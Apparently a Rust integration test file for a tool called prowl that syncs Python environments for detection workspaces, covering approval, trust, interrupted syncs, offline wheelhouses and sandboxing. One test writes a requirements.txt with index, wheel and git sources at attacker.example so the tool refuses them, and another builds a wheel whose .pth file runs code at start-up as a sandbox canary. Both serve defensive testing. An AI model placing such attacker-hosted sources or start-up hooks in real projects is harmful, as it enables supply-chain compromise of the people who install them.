//! Python environments made for workspaces of every shape (`tests/fixtures/envs`): a Pipfile
//! that pins PAT and an old panther-core, a Pipfile with a lock, a requirements.txt with extras
//! and markers, a pyproject.toml, and none at all. Each is synced through `prowl env sync` into
//! a cache of its own and its detection's tests run with `prowl test`. Then what must not
//! happen: a refused requirement or an unapproved list installs nothing; a source-only package
//! needs to be allowed by name; a sync that times out, is cancelled or is killed leaves the
//! previous environment working; a run during a sync is not blocked; pip, where uv is not used,
//! makes a working environment too. The installers reach the package index (PyPI).

mod common;

use rules_workspace::testkit::copy_dir;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// A copy of a fixture in a temporary folder, with a Prowl cache of its own.
struct Case {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    cache: PathBuf,
}

impl Case {
    fn new(fixture: &str) -> Case {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join(fixture);
        copy_dir(
            &common::tests_dir().join("fixtures/envs").join(fixture),
            &ws,
        );
        let cache = dir.path().join("cache");
        std::fs::create_dir_all(&cache).unwrap();
        Case {
            _dir: dir,
            ws: std::fs::canonicalize(ws).unwrap(),
            cache,
        }
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_prowl"));
        cmd.args(args)
            .env("PROWL_CACHE", &self.cache)
            .env("PROWL_CONFIG", self.cache.join("config"))
            .env_remove("PROWL_TRUST")
            .env("NO_COLOR", "1")
            .env_remove("PROWL_PYTHON_ENV")
            .env_remove("PROWL_INSTALLER")
            .stdin(Stdio::null());
        if std::env::var_os("PROWL_UV").is_none() {
            // The setup script's uv, when the test runs outside it.
            let uv = common::cache_dir().join("tools/uv/bin/uv");
            if uv.is_file() {
                cmd.env("PROWL_UV", uv);
            }
        }
        cmd
    }

    fn prowl(&self, args: &[&str]) -> (i32, String, String) {
        let out = self.command(args).output().expect("run prowl");
        decode(out)
    }

    fn ws(&self) -> &str {
        self.ws.to_str().unwrap()
    }

    fn sync(&self, extra: &[&str]) -> (i32, String, String) {
        let mut args = vec!["env", "sync", self.ws()];
        args.extend_from_slice(extra);
        self.prowl(&args)
    }

    fn show(&self) -> Value {
        let (code, out, err) = self.prowl(&["env", "show", self.ws(), "--format", "json"]);
        assert_eq!(code, 0, "{err}");
        serde_json::from_str(&out).unwrap()
    }

    fn test_passes(&self) {
        let (code, out, err) = self.prowl(&["test", self.ws()]);
        assert_eq!(code, 0, "prowl test failed:\n{out}\n{err}");
        assert!(
            out.contains("Failed: 0") && out.contains("Invalid: 0"),
            "{out}"
        );
    }

    /// The environment's link and what it points to.
    fn env_link(&self) -> (PathBuf, PathBuf) {
        let env = self.show()["path"].as_str().unwrap().to_owned();
        let env = PathBuf::from(env);
        let target = std::fs::read_link(&env).unwrap_or_default();
        (env, target)
    }
}

fn decode(out: Output) -> (i32, String, String) {
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn package<'a>(show: &'a Value, name: &str) -> Option<&'a Value> {
    show["manifest"]["packages"]
        .as_array()?
        .iter()
        .find(|p| p["name"] == name)
}

#[test]
fn every_shape_of_requirements_file_gives_a_working_environment() {
    // A Pipfile pinning PAT and an older panther-core: both left out, named with their lines.
    let case = Case::new("pipfile-pat-and-old-core");
    let (code, _, err) = case.sync(&["--yes"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        !err.contains("ResolutionImpossible") && !err.contains("No solution found"),
        "{err}"
    );
    let show = case.show();
    let left: Vec<(String, u64, String)> = show["manifest"]["left_out"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| {
            (
                l["name"].as_str().unwrap().to_owned(),
                l["origin"]["line"].as_u64().unwrap(),
                l["why"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert!(
        left.iter()
            .any(|(n, line, _)| n == "panther-analysis-tool" && *line == 7),
        "{left:?}"
    );
    let core = left
        .iter()
        .find(|(n, _, _)| n == "panther-core")
        .expect("panther-core left out");
    assert_eq!(core.1, 8);
    assert!(
        core.2.contains("panther-core==0.16.2") && core.2.contains("==0.12.1"),
        "{}",
        core.2
    );
    assert!(
        !left.iter().any(|(n, _, _)| n == "pytest"),
        "[dev-packages] are not read"
    );
    assert_eq!(package(&show, "panther-core").unwrap()["version"], "0.16.2");
    assert_eq!(package(&show, "pycountry").unwrap()["version"], "24.6.1");
    assert_eq!(
        package(&show, "pycountry").unwrap()["reason"]["origin"]["line"],
        9
    );
    case.test_passes();

    // A Pipfile with a lock: the lock's pin is used; its stale pin gives way, and says so.
    let case = Case::new("pipfile-with-lock");
    let (code, _, err) = case.sync(&["--yes"]);
    assert_eq!(code, 0, "{err}");
    let show = case.show();
    assert_eq!(package(&show, "six").unwrap()["version"], "1.16.0");
    let notes = show["manifest"]["notes"].to_string();
    assert!(
        notes.contains("pins idna==3.7") && notes.contains("out of date"),
        "{notes}"
    );
    assert!(notes.contains("pins panther-core==0.12.1"), "{notes}");
    case.test_passes();

    // requirements.txt with extras and markers.
    let case = Case::new("requirements-markers-extras");
    let (code, _, err) = case.sync(&["--yes"]);
    assert_eq!(code, 0, "{err}");
    let show = case.show();
    assert!(package(&show, "pysocks").is_some(), "the extra's package");
    assert!(
        package(&show, "tomli").is_none(),
        "the marker is false on Python 3"
    );
    case.test_passes();

    // pyproject.toml.
    let case = Case::new("pyproject");
    let (code, _, err) = case.sync(&["--yes"]);
    assert_eq!(code, 0, "{err}");
    let show = case.show();
    assert_eq!(show["manifest"]["source"], "pyproject.toml");
    assert_eq!(package(&show, "six").unwrap()["version"], "1.16.0");
    case.test_passes();

    // Nothing declared: Prowl's runtime only, and nothing to approve (no --yes, no terminal).
    let case = Case::new("none");
    let (code, _, err) = case.sync(&[]);
    assert_eq!(code, 0, "{err}");
    assert!(!err.contains("approve"), "{err}");
    let show = case.show();
    assert_eq!(show["status"], "ready");
    assert_eq!(show["manifest"]["source"], Value::Null);
    assert_eq!(
        package(&show, "panther-core").unwrap()["reason"]["kind"],
        "runtime"
    );
    case.test_passes();
}

#[test]
fn without_approval_nothing_is_installed() {
    let case = Case::new("pyproject");
    let (code, _, err) = case.sync(&[]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("six==1.16.0"), "the list is shown: {err}");
    assert!(err.contains("not approved"), "{err}");
    assert!(err.contains("--yes"), "{err}");
    let show = case.show();
    assert!(show["manifest"].is_null(), "nothing was installed: {show}");
    assert!(!Path::new(show["path"].as_str().unwrap()).exists());
}

#[test]
fn a_trusted_workspace_installs_its_list_without_asking() {
    let case = Case::new("pyproject");
    let (code, _, err) = case.prowl(&["trust", case.ws()]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = case.sync(&[]);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("six==1.16.0"),
        "the list is still shown: {err}"
    );
    assert!(err.contains("approved: the workspace is trusted"), "{err}");
    assert!(package(&case.show(), "six").is_some());
    // Revoked, a change of the list must be approved again.
    let (code, _, err) = case.prowl(&["trust", "--revoke", case.ws()]);
    assert_eq!(code, 0, "{err}");
    let (code, _, err) = case.sync(&["--force"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("not approved"), "{err}");
    assert!(err.contains("prowl trust"), "says how to trust it: {err}");
}

#[test]
fn refused_requirements_name_their_lines_and_change_nothing() {
    let case = Case::new("none");
    std::fs::write(case.ws.join("requirements.txt"), "six==1.16.0\n").unwrap();
    let (code, _, err) = case.sync(&["--yes"]);
    assert_eq!(code, 0, "{err}");
    let before = case.show()["manifest"].clone();
    let (link, target) = case.env_link();
    let bad = "six==1.16.0\n\
               --index-url https://attacker.example/simple\n\
               --extra-index-url https://attacker.example/simple\n\
               pkg @ https://attacker.example/pkg-1.0-py3-none-any.whl\n\
               git+https://attacker.example/repo.git#egg=pkg\n\
               ./vendor/pkg\n\
               -e ./local\n\
               -r more.txt\n\
               --find-links /tmp/wheels\n\
               --trusted-host attacker.example\n";
    std::fs::write(case.ws.join("requirements.txt"), bad).unwrap();
    let (code, _, err) = case.sync(&["--yes"]);
    assert_eq!(code, 2, "{err}");
    for line in 2..=10 {
        assert!(
            err.contains(&format!("requirements.txt:{line}")),
            "line {line} not named:\n{err}"
        );
    }
    assert!(err.contains("hint:"), "{err}");
    assert!(err.contains("9 requirement(s) refused"), "{err}");
    assert_eq!(
        case.show()["manifest"],
        before,
        "the environment is unchanged"
    );
    assert_eq!(std::fs::read_link(&link).unwrap(), target);
}

#[test]
fn a_source_only_package_must_be_allowed_by_name() {
    let case = Case::new("none");
    // docopt 0.6.2 is published only as a source distribution.
    std::fs::write(case.ws.join("requirements.txt"), "docopt==0.6.2\n").unwrap();
    let (code, _, err) = case.sync(&["--yes"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("`docopt` is published only as source code"),
        "{err}"
    );
    assert!(err.contains("requirements.txt:1"), "{err}");
    assert!(err.contains("--allow-build docopt"), "{err}");
    assert!(case.show()["manifest"].is_null(), "nothing installed");
    let (code, _, err) = case.sync(&["--yes", "--allow-build", "docopt"]);
    assert_eq!(code, 0, "{err}");
    let show = case.show();
    assert_eq!(package(&show, "docopt").unwrap()["built_from_source"], true);
}

/// A stand-in installer that never finishes (it records its process ID first), to catch a
/// sync in the middle.
fn slow_installer(dir: &Path) -> (PathBuf, PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let script = dir.join("slow-uv");
    let pids = dir.join("slow-uv.pids");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'uv 0.0.0'; exit 0; fi\necho $$ >> {}\nexec sleep 600\n",
            pids.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    (script, pids)
}

fn alive(pid: i32) -> bool {
    Path::new(&format!("/proc/{pid}")).exists()
        && !std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .unwrap_or_default()
            .contains(") Z ")
}

fn pids(file: &Path) -> Vec<i32> {
    std::fs::read_to_string(file)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.trim().parse().ok())
        .collect()
}

/// Starts a sync with the slow installer and waits until it is installing.
fn start_slow_sync(
    case: &Case,
    script: &Path,
    label: &str,
    extra: &[&str],
) -> (std::process::Child, PathBuf) {
    let stderr = case.cache.join(format!("sync-{label}.err"));
    let mut args = vec!["env", "sync", case.ws(), "--yes"];
    args.extend_from_slice(extra);
    let child = case
        .command(&args)
        .env("PROWL_UV", script)
        .stderr(std::fs::File::create(&stderr).unwrap())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while !std::fs::read_to_string(&stderr)
        .unwrap_or_default()
        .contains("creating the environment")
    {
        assert!(Instant::now() < deadline, "the sync never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    (child, stderr)
}

#[test]
fn interrupted_syncs_leave_the_previous_environment_working() {
    let case = Case::new("none");
    let (code, _, err) = case.sync(&[]);
    assert_eq!(code, 0, "{err}");
    let (link, target) = case.env_link();
    let (script, pid_file) = slow_installer(&case.cache);
    let generations = || -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(link.parent().unwrap())
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.contains(".g"))
            .collect();
        v.sort();
        v
    };
    let before = generations();

    // Past its time limit: stopped with a clear error, its installer killed.
    let started = Instant::now();
    let out = case
        .command(&["env", "sync", case.ws(), "--force", "--env-timeout", "1"])
        .env("PROWL_UV", &script)
        .output()
        .unwrap();
    let (code, _, err) = decode(out);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("took more than 1 s"), "{err}");
    assert!(started.elapsed() < Duration::from_secs(20));
    assert!(
        pids(&pid_file).iter().all(|p| !alive(*p)),
        "installer left running"
    );
    assert_eq!(std::fs::read_link(&link).unwrap(), target);
    assert_eq!(generations(), before, "nothing left behind");

    // Cancelled (Ctrl+C): the same.
    let (mut child, stderr) = start_slow_sync(&case, &script, "cancelled", &["--force"]);
    // SAFETY: signals a child process of this test.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(2));
    assert!(std::fs::read_to_string(&stderr)
        .unwrap()
        .contains("cancelled"));
    assert!(
        pids(&pid_file).iter().all(|p| !alive(*p)),
        "installer left running"
    );
    assert_eq!(std::fs::read_link(&link).unwrap(), target);
    assert_eq!(generations(), before);

    // A run while the environment is being updated is not blocked: it uses the current one.
    std::fs::write(case.ws.join("requirements.txt"), "six==1.16.0\n").unwrap();
    let (mut child, _) = start_slow_sync(&case, &script, "killed", &[]);
    let started = Instant::now();
    let (code, out, err) = case.prowl(&["test", case.ws()]);
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(
        err.contains("running with the current one meanwhile"),
        "{err}"
    );
    assert!(started.elapsed() < Duration::from_secs(60));

    // Killed outright in the middle: the link still points at the working environment.
    // SAFETY: as above.
    unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
    let _ = child.wait();
    for p in pids(&pid_file) {
        // SAFETY: the stand-in installer's own processes, left by the killed sync.
        unsafe { libc::kill(p, libc::SIGKILL) };
    }
    assert_eq!(std::fs::read_link(&link).unwrap(), target);
    std::fs::remove_file(case.ws.join("requirements.txt")).unwrap();
    let (code, _, err) = case.prowl(&["env", "check", case.ws()]);
    assert_eq!(code, 0, "{err}");
    case.test_passes();
    // The next sync removes what the killed one left.
    let (code, _, err) = case.sync(&["--force"]);
    assert_eq!(code, 0, "{err}");
    assert!(generations().len() <= 2, "{:?}", generations());
}

#[test]
fn pip_makes_a_working_environment_where_uv_is_not_used() {
    let case = Case::new("pipfile-with-lock");
    let out = case
        .command(&["env", "sync", case.ws(), "--yes"])
        .env("PROWL_INSTALLER", "pip")
        .output()
        .unwrap();
    let (code, _, err) = decode(out);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("using pip"), "{err}");
    let show = case.show();
    assert!(
        show["manifest"]["installer"]
            .as_str()
            .unwrap()
            .starts_with("pip "),
        "{show}"
    );
    assert_eq!(package(&show, "six").unwrap()["version"], "1.16.0");
    case.test_passes();
}

#[test]
fn offline_the_message_says_what_to_do_and_a_wheelhouse_makes_the_environment() {
    // Nothing listens on the discard port: the index cannot be reached.
    let unreachable = "http://127.0.0.1:9/simple";
    let source = Case::new("pyproject");
    let (code, _, err) = source.sync(&["--yes"]);
    assert_eq!(code, 0, "{err}");
    // Synced, the environment works without the index.
    let out = source
        .command(&["test", source.ws()])
        .env("PROWL_INDEX_URL", unreachable)
        .output()
        .unwrap();
    assert_eq!(decode(out).0, 0);
    // Its packages as wheels, for a machine without the index.
    let house = source.cache.join("wheelhouse");
    let (code, out, err) = source.prowl(&[
        "env",
        "export",
        source.ws(),
        "--to",
        house.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("as wheels"), "{out}");
    assert!(house.join("prowl-wheelhouse.json").is_file());

    // A second machine: no environment and no index.
    let offline = Case::new("pyproject");
    let out = offline
        .command(&["env", "sync", offline.ws(), "--yes"])
        .env("PROWL_INDEX_URL", unreachable)
        .env("UV_OFFLINE", "1")
        .env("UV_CACHE_DIR", offline.cache.join("empty-uv-cache"))
        .output()
        .unwrap();
    let (code, _, err) = decode(out);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("cannot reach the package index"), "{err}");
    assert!(
        err.contains("prowl env export") && err.contains("prowl env import"),
        "{err}"
    );
    let out = offline
        .command(&[
            "env",
            "import",
            offline.ws(),
            "--from",
            house.to_str().unwrap(),
            "--yes",
        ])
        .env("PROWL_INDEX_URL", unreachable)
        .env("UV_CACHE_DIR", offline.cache.join("empty-uv-cache"))
        .output()
        .unwrap();
    let (code, _, err) = decode(out);
    assert_eq!(code, 0, "{err}");
    let show = offline.show();
    assert_eq!(show["status"], "ready", "{show}");
    assert_eq!(package(&show, "six").unwrap()["version"], "1.16.0");
    offline.test_passes();
}

/// A wheel of our own whose `.pth` file, run by Python at start-up, writes `canary`.
fn pth_wheel(dir: &Path, canary: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    let script = r#"
import base64, hashlib, sys, zipfile
out, canary = sys.argv[1], sys.argv[2]
files = {
    "prowl_pth_canary/__init__.py": "VALUE = 1\n",
    "prowl_pth_canary.pth": "import os; open(%r, 'w').write('ran')\n" % canary,
    "prowl_pth_canary-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: prowl-pth-canary\nVersion: 1.0\n",
    "prowl_pth_canary-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: prowl-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
def digest(text):
    d = hashlib.sha256(text.encode()).digest()
    return "sha256=" + base64.urlsafe_b64encode(d).rstrip(b"=").decode()
record = "".join(f"{name},{digest(text)},{len(text.encode())}\n" for name, text in files.items())
record += "prowl_pth_canary-1.0.dist-info/RECORD,,\n"
files["prowl_pth_canary-1.0.dist-info/RECORD"] = record
with zipfile.ZipFile(out + "/prowl_pth_canary-1.0-py3-none-any.whl", "w") as z:
    for name, text in files.items():
        z.writestr(name, text)
"#;
    let status = Command::new("python3")
        .args(["-c", script])
        .arg(dir)
        .arg(canary)
        .status()
        .unwrap();
    assert!(status.success());
}

#[test]
fn a_package_with_a_pth_file_runs_only_in_the_sandbox() {
    for installer in ["uv", "pip"] {
        let case = Case::new("none");
        let wheels = case.cache.join("wheels");
        let canary = case.cache.join("pth-ran");
        pth_wheel(&wheels, &canary);
        std::fs::write(case.ws.join("requirements.txt"), "prowl-pth-canary==1.0\n").unwrap();
        let with_wheels = |args: &[&str]| {
            let mut cmd = case.command(args);
            cmd.env("UV_FIND_LINKS", &wheels)
                .env("PIP_FIND_LINKS", &wheels)
                .env("PROWL_INSTALLER", installer);
            decode(cmd.output().unwrap())
        };
        let (code, _, err) = with_wheels(&["env", "sync", case.ws(), "--yes"]);
        assert_eq!(code, 0, "{installer}: {err}");
        assert!(package(&case.show(), "prowl-pth-canary").is_some());
        // Installing, describing, checking, validating and testing never start the
        // environment's Python outside the sandbox.
        for args in [
            vec!["env", "check", case.ws()],
            vec!["env", "show", case.ws()],
            vec!["validate", case.ws()],
            vec!["test", case.ws()],
        ] {
            let (code, out, err) = with_wheels(&args);
            assert_eq!(code, 0, "{installer} {args:?}: {out}\n{err}");
            assert!(
                !canary.exists(),
                "{installer}: the .pth ran outside the sandbox during {args:?}"
            );
        }
        // The file is live: asked out of the sandbox, a trusted workspace's test run does
        // run it (so the checks above are not vacuous).
        let out = case
            .command(&["test", case.ws()])
            .env("PROWL_SANDBOX", "off")
            .env("PROWL_TRUST", "1")
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        assert_eq!(
            std::fs::read_to_string(&canary).unwrap_or_default(),
            "ran",
            "{installer}: the .pth file should run unsandboxed"
        );
    }
}
